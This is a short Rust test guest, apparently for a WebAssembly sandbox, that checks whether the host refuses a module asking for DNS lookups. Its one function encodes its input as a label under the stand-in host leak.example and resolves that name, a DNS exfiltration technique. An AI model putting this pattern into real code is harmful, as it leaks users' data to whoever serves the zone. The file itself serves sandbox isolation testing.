//! Looks up a name that carries the input as one of its labels: whoever serves the zone would read it there.
//!
//! Expected: refused at load, naming `wasi:sockets/ip-name-lookup`; where the operator made sockets inert, it
//! ends there. Nobody is asked for the name either way.

use std::net::ToSocketAddrs;

kapell_guests::guest!("kapell:guests/plain", leak);

fn leak(input: String) -> Result<String, String> {
    let name = format!("{input}.leak.example:443");
    let found = name.to_socket_addrs().map_err(|error| format!("look up {name}: {error}"))?;
    Ok(format!("{} addresses", found.count()))
}
